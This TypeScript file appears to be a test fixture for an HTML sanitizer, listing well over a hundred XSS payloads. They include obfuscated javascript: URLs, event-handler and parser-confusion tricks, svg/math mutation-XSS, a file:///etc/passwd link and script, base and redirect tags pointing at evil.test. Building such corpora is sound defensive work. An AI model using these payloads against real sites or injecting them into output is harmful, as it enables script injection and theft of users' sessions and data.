/** One per line; `¶` is a line break within it. */
const linesOf = (lines: string) =>
  lines
    .slice(1, -1)
    .split('\n')
    .map((line) => line.replaceAll('¶', '\n'));

const addresses = linesOf(`
javascript:hit()
JaVaScRiPt:hit()
 javascript:hit()
java\tscript:hit()
java¶script:hit()
java\r¶script:hit()
\u0001javascript:hit()
\u001fjavascript:hit()
java\0script:hit()
\u00a0javascript:hit()
\ufeffjavascript:hit()
javascript&colon;hit()
javascript&#58;hit()
javascript&#x3ahit()
&#106;avascript:hit()
java&Tab;script:hit()
java&NewLine;script:hit()
java&#x0A;script:hit()
&#0000106avascript:hit()
&#x6A&#x61vascript:hit()
&lt;javascript:hit()
javascript://%0ahit()
javascript:/*https://x.test*/hit()
//javascript:hit()
vbscript:hit()
data:text/html,<script>hit()</script>
data:text/html;base64,PGI+
data:image/svg+xml,<svg onload=hit()>
blob:https://x.test/1
view-source:https://x.test
file:///etc/passwd
//evil.test
/\\evil.test
\\\\evil.test
/\t/evil.test
/&#9;/evil.test
https://x.test/"onclick="hit()
https://x.test/&quot;onclick=&quot;hit()
https:javascript:hit()
feed:javascript:hit()
x:hit()
:hit()
#"><img src=x onerror=hit()>
`);

const whole = linesOf(`
<p onclick="hit()">a</p>
<p/onclick=hit()>a
<p¶onclick=hit()>a
<p\fonclick=hit()>a
<p "onclick=hit()>a
<p a="b"onclick=hit()>a
<p a='b'/onclick=hit()/>a
<p ONCLICK=hit()>a
<p on click=hit()>a
<p onclick\t=¶hit()>a
<p a=b/onclick=hit()>
<p ="onclick=hit()>a
<p a=\`b\`onclick=hit()>a
<p title="</p><img onerror=hit()>">a
<p\u2028onclick=hit()>a
<a title="x" onfocus=hit() autofocus href=#>a</a>
<a href=# onfocus=hit() tabindex=1>a
<a href="#" href="javascript:hit()">a</a>
<a HREF="javascript:hit()" href=#>a
<a ping="https://evil.test" href=# target=_blank>a
<img src=x onerror=hit()>
<img src="https://x.test/a.jpg" onerror=hit()>
<img src='https://x.test/a.jpg' onload=hit() alt="'>">
<img src=https://x.test/a"onerror=hit()>
<img """><script>hit()</script>">
<img alt="\`" src=https://x.test/\`onerror=hit()>
<img/src=x/onerror=hit()//
<image src=x onerror=hit()>
<body onload=hit()>
<html onmouseover=hit()>
<details open ontoggle=hit()>a</details>
<video><source onerror=hit()></video>
<audio src=x onerror=hit()>
<marquee onstart=hit()>a
<input autofocus onfocus=hit()>
<select autofocus onfocus=hit()>
<x-y onclick=hit()>a</x-y>
<table background="javascript:hit()"><td background="javascript:hit()">a
<p style="background:url(javascript:hit())">a
<p style="x:expression(hit())">a
<p id="forms" name="cookie">a
<script>hit()</script>a
<SCRIPT src=//evil.test></SCRIPT >a
<script>hit()
<script¶>hit()</script¶>
<script/x>hit()</script/x>
<scr<script>ipt>hit()</script>
<script>"</script>"<b>a</b>
<script><!--<script></script>hit()--></script>
<b <script>hit()</script>
<<script>hit()//<</script>
<script src=//evil.test
<style>*{}</style><iframe srcdoc="<script>hit()</script>"></iframe>a
<style>@import "//x"
<style><img src="</style><img src=x onerror=hit()>">
<style><!--</style><img src=x onerror=hit()>-->
<title><img title="</title><img src=x onerror=hit()>">
<title><a>&lt;/title></a>
<textarea><img title="</textarea><img src=x onerror=hit()>">
<textarea>a
<xmp><img title="</xmp><img src=x onerror=hit()>">
<plaintext><img src=x onerror=hit()>
<noscript><p title="</noscript><img src=x onerror=hit()>">
<noembed><a title="</noembed><img src=x onerror=hit()>">
<noframes><p title="</noframes><img src=x onerror=hit()>">
<iframe><p title="</iframe><img src=x onerror=hit()>">
<iframe src="javascript:hit()">
<embed src="javascript:hit()">
<object data="data:text/html,1">
<template><script>hit()</script></template>c
<template shadowrootmode=open><slot><script>hit()</script>
<select><template><style></select><img src=x onerror=hit()>
<frameset><frame src=//x>
<base href="//evil.test"><meta http-equiv=refresh content="0;url=//evil.test">a
<link rel=stylesheet href=//evil.test>
<applet code=x></applet>a
<form action="javascript:hit()"><button>a</button></form>b
<button formaction="javascript:hit()">a
<isindex action="javascript:hit()" type=image>
<svg><a xlink:href="javascript:hit()"><script>hit()</script></a></svg>a
<svg/onload=hit()>
<svg><script>hit()</script></svg>a
<svg><style><img src=x onerror=hit()></style></svg>
<svg></p><style><a id="</style><img src=x onerror=hit()>">
<svg><p><img src=x onerror=hit()>
<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>a
<svg><desc><b>a</b>
<svg><animate onbegin=hit() attributeName=x>
<svg><set to="javascript:hit()">
<svg><use href="data:image/svg+xml,<svg onload=hit()>"/>
<svg><title><style>*</title><img src=x onerror=hit()>
<svg><![CDATA[</svg><img src=x onerror=hit()>]]>
<svg><font color=x><img src=x onerror=hit()>
<svg></svg/><img src=x onerror=hit()>
<math><mi xlink:href="javascript:hit()">a</mi></math>b
<math><mtext><img src=x onerror=hit()>
<math><style><img src=x onerror=hit()></style></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=hit()>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style>
<!--><img src=x onerror=hit()>-->a
<!---><img src=x onerror=hit()>-->
<!--a--!><img src=x onerror=hit()>
<!-- -- ><img src=x onerror=hit()> -->
<!-<img src=x onerror=hit()>
<!--<img src=x onerror=hit()>
<![CDATA[<img src=x onerror=hit()>]]>
<?xml "><img src=x onerror=hit()>"?>
<!x "><script>hit()</script>
</ ><img src=x onerror=hit()>
</p onclick=hit()>
<!--[if IE]><script>hit()</script><![endif]-->
<p>a<!-- </p><script>hit() --> b</p>
<%<img src=x onerror=hit()>%>
<!doctype html><script>hit()</script>
</div></section></main></body></html>a
</div></div></div></div></div><p>a
<table><tr><td><a><table><a></table></td></a>
<a><p><a><div><a></p></div></a>
<p><table><p>a
<strong><p><strong></p></strong>a
<li><strong><li></strong>a
<ol><li><ul></li></ol>a
<constructor>a<toString href=1>b
<__proto__ onclick=hit()>a
<a __proto__=1 constructor=2>a
<<b>a
<b>>a
&lt;script&gt;hit()&lt;/script&gt;
&amp;lt;img src=x onerror=hit()&amp;gt;
<a>&#60;img src=x onerror=hit()>
\u{1d4fc}<\uff53cript>hit()
<\u017fcript>hit()</\u017fcript>
<\u212amg src=x onerror=hit()>
\ufeff<p>
`);

/** Markup that has smuggled scripts past other filters. `hit()` reports that one ran. */
export const hostileMarkup: readonly string[] = [
  ...addresses.map((address) => `<a href="${address}">a</a>`),
  ...addresses.map((address) => `<img src='${address}' alt=a>b`),
  ...whole,
  ...'a <|<|<a|<a href|<a href=|<a href="|<a href="x|</|<!|&|&#|&#x|&lt'.split('|'),
];
